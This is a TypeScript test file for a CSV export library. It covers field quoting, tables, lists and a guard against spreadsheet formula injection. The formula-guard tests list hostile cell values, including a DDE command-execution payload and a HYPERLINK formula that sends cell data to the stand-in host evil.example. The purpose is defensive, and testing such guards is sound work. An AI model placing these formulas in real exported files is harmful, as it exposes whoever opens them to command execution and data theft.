import { describe, expect, it } from 'vitest';
import { csvField, csvList, csvTable } from '../lib/csv';
import { parseCsv, parseCsvList, unguardCsvCell } from './helpers/csv';

describe('CSV fields (RFC 4180)', () => {
  it('leaves plain text, numbers and spaces unquoted', () => {
    expect(csvField('Xen Project')).toBe('Xen Project');
    expect(csvField(2014)).toBe('2014');
    expect(csvField(' padded ')).toBe(' padded ');
  });

  it('writes null as an empty field', () => {
    expect(csvField(null)).toBe('');
  });

  it('quotes a field with a comma, a quote or a line break, doubling its quotes', () => {
    expect(csvField('Hello, world')).toBe('"Hello, world"');
    expect(csvField('The "Hello" app')).toBe('"The ""Hello"" app"');
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvField('"')).toBe('""""');
  });
});

describe('CSV tables', () => {
  it('writes a header, then one row per record, each line ending in CRLF', () => {
    expect(csvTable(['a', 'b'], [['1', 2], [null, 'x']])).toBe('a,b\r\n1,2\r\n,x\r\n');
  });

  it('reads back field for field, whatever the fields hold', () => {
    const rows = [
      ['plain', 'with, comma', 'with "quotes"'],
      ['line\nbreak', 'crlf\r\ninside', ''],
      ['"starts with a quote', 'ends with a quote"', ',,,'],
      ['=SUM(A1:A2)', 'tab\there', 'ünïcödé 漢字 🙂'],
    ];
    expect(parseCsv(csvTable(['x', 'y', 'z'], rows)).map((row) => row.map(unguardCsvCell))).toEqual([['x', 'y', 'z'], ...rows]);
  });
});

describe('CSV formula guard (OWASP: a leading quote)', () => {
  const hostile = ['=1+2', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '- Radostin Stoyanov', '@AkkiSingh', '\tx', '\rx', '++ starts'];

  it('puts a quote before text a spreadsheet would run as a formula: =, +, -, @, tab or CR first', () => {
    for (const cell of hostile) expect(parseCsv(csvTable(['x'], [[cell]]))[1]![0], JSON.stringify(cell)).toBe(`'${cell}`);
  });

  it('puts one before text that starts with a quote too, so that dropping one leading quote always undoes it', () => {
    expect(csvField("'quoted'")).toBe("''quoted'");
    expect(csvField("'=1")).toBe("''=1");
  });

  it('leaves other text and numbers alone, a negative number too', () => {
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField(-3)).toBe('-3');
  });

  it('reads back exactly once the leading quote is dropped', () => {
    const cells = [...hostile, "'", "''", 'plain', 'x'];
    const [, ...rows] = parseCsv(csvTable(['x'], cells.map((cell) => [cell])));
    expect(rows.map((row) => unguardCsvCell(row[0]!))).toEqual(cells);
  });
});

describe('CSV lists', () => {
  it('joins items with "; "', () => {
    expect(csvList(['python', 'c++', 'c#'])).toBe('python; c++; c#');
    expect(csvList([2009, 2010])).toBe('2009; 2010');
    expect(csvList([])).toBe('');
  });

  it('reads back exactly, even items holding the separator or a backslash', () => {
    for (const items of [['a'], ['a; b', 'c'], ['semi;colon', 'back\\slash', 'ends with\\'], [';', '\\', '\\;'], ['with, comma', 'with "quote"']]) {
      expect(parseCsvList(csvList(items))).toEqual(items);
      // …also as a field of a whole table.
      expect(parseCsv(csvTable(['list'], [[csvList(items)]]))[1]).toEqual([csvList(items)]);
    }
  });
});
